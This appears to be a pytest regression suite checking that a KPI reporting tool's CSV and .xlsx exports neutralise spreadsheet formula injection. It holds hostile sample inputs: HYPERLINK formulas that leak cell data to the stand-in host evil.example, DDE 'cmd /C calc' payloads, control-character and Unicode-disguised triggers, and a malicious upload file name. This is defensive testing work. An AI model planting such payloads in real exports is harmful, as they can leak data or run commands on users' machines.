"""Formula injection (issue 9 item 4): text that a spreadsheet would run as a formula never leaves the product
as one, whichever way it is written out: CLI `export` (CSV, .xlsx), CLI `scores --format csv`, the submission
template, the dashboard pages' downloads and the SQL page's downloads.

The attack that got through: a note `\\x01=HYPERLINK(...)`.  The control character hid the `=` from the check and
was dropped afterwards by the .xlsx writer, leaving a live formula.  The rule (export.spreadsheet_text)
normalises first and neutralises after.  Every file is read back as a user's spreadsheet would read it (openpyxl
for .xlsx, csv for CSV) and no cell may start with a formula trigger or be stored as a formula.
"""

from __future__ import annotations

import io
import unicodedata
from pathlib import Path

import pandas as pd
import pytest

from pipelines import export, snapshot, sqlconsole
from pipelines.templates import write_template
from tests.download_support import csv_rows, open_page, xlsx_cells
from tests.support import run_cli

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CONTROLS = tuple(chr(code) for code in range(32))
BODY = 'HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOADS = tuple(control + trigger + BODY for control in CONTROLS for trigger in TRIGGERS)
"""Each formula trigger behind each C0 control character: 192 texts."""
LOADED_PAYLOADS = tuple(payload for payload in PAYLOADS if not payload.startswith("\x00"))
"""The ones a CSV file can carry into the database (the reader refuses NUL bytes as binary data)."""

VARIANTS = {
    "leading space": " =1+1",
    "leading spaces and tab": "  \t=1+1",
    "no-break space": "\u00a0=1+1",
    "ideographic space": "\u3000=1+1",
    "byte-order mark": "\ufeff=1+1",
    "zero-width space": "\u200b=1+1",
    "zero-width joiner": "\u200d+1+1",
    "word joiner": "\u2060@SUM(1,1)",
    "left-to-right mark": "\u200e-1+1",
    "right-to-left override": "\u202e=1+1",
    "delete character": "\x7f=1+1",
    "C1 control": "\x85=1+1",
    "line feed": "\n=1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1+1",
    "full-width hyphen-minus": "\uff0d1+1",
    "full-width commercial at": "\uff20SUM(1,1)",
    "small equals": "\ufe661+1",
    "small plus": "\ufe621+1",
    "small hyphen-minus": "\ufe631+1",
    "DDE cmd": "=cmd|' /C calc'!A0",
    "DDE behind plus": "+cmd|' /C calc'!A0",
    "DDE behind minus": "-2+3+cmd|' /C calc'!A0",
    "DDE behind at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "DDE function": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "DDE behind control": "\x01\x02=cmd|' /C calc'!A0",
    "tab alone": "\t",
    "carriage return alone": "\r",
}
HARMLESS = ("ร้อยละ 85", "a=b", "x + y", "note - with dash", "user@example.com", "'=already quoted", "100%", "")

_INVISIBLE = frozenset({"Cc", "Cf", "Zs", "Zl", "Zp"})


def starts_like_formula(text: str) -> bool:
    """What the test calls a formula trigger: = + - @ tab CR first, or first after controls, invisible
    characters and spaces, or in a full-width/small form."""
    if text[:1] in TRIGGERS:
        return True
    visible = next((char for char in text if unicodedata.category(char) not in _INVISIBLE), "")
    return unicodedata.normalize("NFKC", visible)[:1] in TRIGGERS


def assert_csv_safe(data: bytes) -> list[list[str]]:
    rows = csv_rows(data)
    bad = [cell for row in rows for cell in row if starts_like_formula(cell)]
    assert not bad, bad[:5]
    return rows


def assert_xlsx_safe(data: bytes | Path) -> list:
    cells = xlsx_cells(data)
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, formulas[:5]
    bad = [cell.value for cell in cells if isinstance(cell.value, str) and starts_like_formula(cell.value)]
    assert not bad, bad[:5]
    return cells


def texts_of(rows_or_cells: list) -> list[str]:
    if rows_or_cells and isinstance(rows_or_cells[0], list):
        return [cell for row in rows_or_cells for cell in row]
    return [cell.value for cell in rows_or_cells if isinstance(cell.value, str)]


# --- the rule, in both file formats --------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p[:2]) for p in PAYLOADS])
def test_each_trigger_behind_each_control_character_is_neutralised_in_csv_and_xlsx(payload: str) -> None:
    frame = pd.DataFrame({"note": [payload], payload: ["header too"], "score": [3.25]})
    rows = assert_csv_safe(export.csv_bytes(frame))
    cells = assert_xlsx_safe(export.xlsx_bytes(frame))
    assert sum(BODY in text for text in texts_of(rows)) == 2  # the text is kept, only made inert
    assert sum(BODY in text for text in texts_of(cells)) == 2
    assert rows[1][2] == "3.25" and cells[5].value == 3.25  # numbers stay numbers


@pytest.mark.parametrize("payload", list(VARIANTS.values()), ids=list(VARIANTS))
def test_invisible_whitespace_full_width_and_dde_variants_are_neutralised(payload: str) -> None:
    frame = pd.DataFrame({"note": [payload]})
    assert assert_csv_safe(export.csv_bytes(frame))[1][0].startswith("'")
    assert [cell.value for cell in assert_xlsx_safe(export.xlsx_bytes(frame))][1].startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_and_numbers_are_written_unchanged(text: str) -> None:
    assert export.spreadsheet_text(text) == text
    frame = pd.DataFrame({"note": [text], "actual": [-5.5]})
    assert csv_rows(export.csv_bytes(frame))[1] == [text, "-5.5"]
    cells = xlsx_cells(export.xlsx_bytes(frame))
    assert [cell.value for cell in cells[2:]] == [text or None, -5.5]


def test_the_reported_attack_normalises_before_it_neutralises() -> None:
    """`\\x01=HYPERLINK(...)`: the control character goes (an .xlsx file cannot hold it), then the `=` is seen."""
    assert export.spreadsheet_text("\x01=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert export.spreadsheet_text("\x00\x1f+1") == "'+1"


# --- every export path --------------------------------------------------------------------------------

HOSTILE_YEAR = 2569
HOSTILE_NOTE = "\x01=HYPERLINK(\"http://evil.example\",\"click\")"


@pytest.fixture
def hostile_db(sample_db: Path, tmp_path: Path) -> Path:
    """The samples, plus: a FY 2569 catalogue of 186 KPIs owned by PLAN whose names are the payloads, a hostile
    English name for PLAN, and a PLAN Q3/2568 submission whose note is the reported attack; all loaded
    through the CLI as a planning division and a division head would."""
    header = ("ปีงบประมาณ,รหัสตัวชี้วัด,ชื่อตัวชี้วัด,มิติ,หมวด PMQA,หน่วยงานรับผิดชอบ,หน่วยนับ,ทิศทาง,ประเภท,น้ำหนัก,"
              "เกณฑ์ระดับ 1,เกณฑ์ระดับ 2,เกณฑ์ระดับ 3,เกณฑ์ระดับ 4,เกณฑ์ระดับ 5")
    rows = [[HOSTILE_YEAR, f"X-{index:03d}", payload, "มิติด้านประสิทธิผล", "1", "PLAN", "=1+1", "มากดี", "numeric",
             1, 50, 60, 70, 80, 90] for index, payload in enumerate(LOADED_PAYLOADS)]
    frame = pd.DataFrame(rows, columns=header.split(","))
    catalogue = tmp_path / "catalogue_2569.csv"
    frame.to_csv(catalogue, index=False)
    assert run_cli(sample_db, "catalogue", str(catalogue)) == 0
    orgs = tmp_path / "orgs.csv"
    orgs.write_text("รหัสหน่วยงาน,ชื่อหน่วยงาน,ชื่อภาษาอังกฤษ,หน่วยงานต้นสังกัด,ระดับ\n"
                    "AG,สำนักงานตัวอย่าง,Sample Office,,agency\n"
                    "PLAN,กองแผนงาน,\"\x02@SUM(1+1)*cmd|' /C calc'!A0\",AG,division\n"
                    "LAW,กองกฎหมาย,Legal Division,AG,division\n", encoding="utf-8")
    assert run_cli(sample_db, "orgs", str(orgs)) == 0
    upload = tmp_path / "plan_q3.csv"
    pd.DataFrame({"division": ["PLAN"], "fiscal_year": [2568], "quarter": [3], "kpi_code": ["P-01"],
                  "actual": [40], "note": [HOSTILE_NOTE]}).to_csv(upload, index=False)
    assert run_cli(sample_db, "ingest", str(upload)) == 0
    return sample_db


def test_hostile_fixture_holds_the_payloads_as_typed(hostile_db: Path) -> None:
    """The attack must reach the database for the export tests to mean anything."""
    import duckdb

    with duckdb.connect(str(hostile_db), read_only=True) as con:
        names = [row[0] for row in con.execute("SELECT name_th FROM kpi WHERE fiscal_year = ?",
                                               [HOSTILE_YEAR]).fetchall()]
        notes = {row[0] for row in con.execute("SELECT note FROM kpi_results WHERE note IS NOT NULL").fetchall()}
    assert len(names) == len(LOADED_PAYLOADS)
    # = + - @ behind each of the 31 controls stay dangerous; a tab or CR there is read as a space
    assert sum(starts_like_formula(name) for name in names) >= 4 * 31
    # the reader drops control characters from cell text (parsing.clean_text); the formula behind it is stored
    # and must be neutralised by every export
    assert HOSTILE_NOTE.lstrip("\x01") in notes and starts_like_formula(HOSTILE_NOTE.lstrip("\x01"))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_cli_export_writes_no_live_formula(hostile_db: Path, tmp_path: Path, file_format: str) -> None:
    out = tmp_path / "out"
    assert run_cli(hostile_db, "export", "--format", file_format, "--out", str(out)) == 0
    found = []
    for path in sorted(out.glob(f"*.{file_format}")):
        written = assert_csv_safe(path.read_bytes()) if file_format == "csv" else assert_xlsx_safe(path)
        found += [text for text in texts_of(written) if "HYPERLINK" in text or "cmd|" in text]
    assert sum("HYPERLINK" in text for text in found) >= len(LOADED_PAYLOADS) + 1  # the catalogue names and the note
    assert any("cmd|" in text for text in found)  # PLAN's English name


def test_cli_scores_csv_writes_no_live_formula(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli(hostile_db, "scores", "--fiscal-year", "2568", "--quarter", "2", "--format", "csv") == 0
    rows = assert_csv_safe(capsys.readouterr().out.encode())
    assert any("cmd|" in cell for row in rows for cell in row)


def test_cli_template_writes_catalogue_text_as_text(hostile_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "PLAN_2569_Q1.xlsx"
    assert run_cli(hostile_db, "template", "--division", "PLAN", "--fiscal-year", str(HOSTILE_YEAR),
                   "--quarter", "1", "-o", str(target)) == 0
    cells = assert_xlsx_safe(target)
    assert sum(BODY in text for text in texts_of(cells)) == len(LOADED_PAYLOADS)
    assert sum(text == "'=1+1" for text in texts_of(cells)) == len(LOADED_PAYLOADS)  # the unit of measure column


@pytest.mark.parametrize("lang", ["th", "en"])
def test_template_writer_neutralises_every_payload_in_every_text_cell(lang: str) -> None:
    kpis = [{"kpi_code": f"X-{i:03d}", "name_th": payload, "dimension": payload, "unit": payload,
             "direction": "higher", "kind": "numeric", "weight": 1, "target": None,
             "t1": 50, "t2": 60, "t3": 70, "t4": 80, "t5": 90} for i, payload in enumerate(PAYLOADS)]
    unit = {"code": "PLAN", "name_th": "\x03-1+cmd|' /C calc'!A0", "name_en": ""}
    buffer = io.BytesIO()
    write_template(buffer, unit, 2569, 1, kpis, lang=lang)
    cells = assert_xlsx_safe(buffer.getvalue())
    assert sum(BODY in text for text in texts_of(cells)) == 3 * len(PAYLOADS)


def test_sql_page_downloads_write_no_live_formula(hostile_db: Path) -> None:
    sql = ("SELECT chr(c::INTEGER) || t || 'HYPERLINK(1)' AS note, name_th, name_en "
           "FROM range(0, 32) AS r(c), (VALUES ('='), ('+'), ('-'), ('@'), (chr(9)), (chr(13))) AS v(t), "
           "org_units WHERE code = 'PLAN'")
    result = sqlconsole.run_query(snapshot.snapshot_path(hostile_db), sql)
    assert isinstance(result, sqlconsole.QueryResult), result
    rows = assert_csv_safe(sqlconsole.result_bytes(result, "csv"))
    cells = assert_xlsx_safe(sqlconsole.result_bytes(result, "xlsx"))
    assert sum("HYPERLINK(1)" in text for text in texts_of(rows)) == 192
    assert sum("HYPERLINK(1)" in text for text in texts_of(cells)) == 192


@pytest.mark.parametrize(("page", "params", "expected"), [
    ("kpi", {"fy": "2568", "q": "3", "unit": "PLAN", "kpi": "P-01", "lang": "en"}, "HYPERLINK"),
    ("pmqa", {"fy": str(HOSTILE_YEAR), "q": "1", "unit": "PLAN", "lang": "th"}, BODY),
    ("units", {"fy": "2568", "q": "2", "unit": "AG", "lang": "en"}, "cmd|"),
    ("overview", {"fy": "2568", "q": "2", "unit": "AG", "lang": "en"}, "cmd|"),
])
def test_page_downloads_write_no_live_formula(monkeypatch, hostile_db: Path, page: str, params: dict,
                                              expected: str) -> None:
    _, offered = open_page(monkeypatch, hostile_db, page, **params)
    assert offered
    found = []
    for download in offered:
        data = download.bytes()
        if download.file_name.endswith(".csv"):
            found += texts_of(assert_csv_safe(data))
        elif download.file_name.endswith(".xlsx"):
            found += texts_of(assert_xlsx_safe(data))
    assert any(expected in text for text in found)


def test_audit_trail_download_writes_no_live_formula(sample_db: Path, tmp_path: Path) -> None:
    """A rejected upload's audit detail starts with the file's name, which the uploader chose."""
    from pipelines import audit, db

    bad = tmp_path / "=HYPERLINK(1)+1.csv"
    bad.write_text("division,fiscal_year,quarter,kpi_code,actual,note\nPLAN,2568,3,P-01,abc,\n", encoding="utf-8")
    assert run_cli(sample_db, "ingest", str(bad)) == 1
    with db.open_db(sample_db, read_only=True) as con:
        events = audit.events(con)  # what the admin audit page downloads, through export.csv_bytes
    rows = assert_csv_safe(export.csv_bytes(events))
    assert any(cell.startswith("'=HYPERLINK(1)+1.csv: ") for row in rows for cell in row)
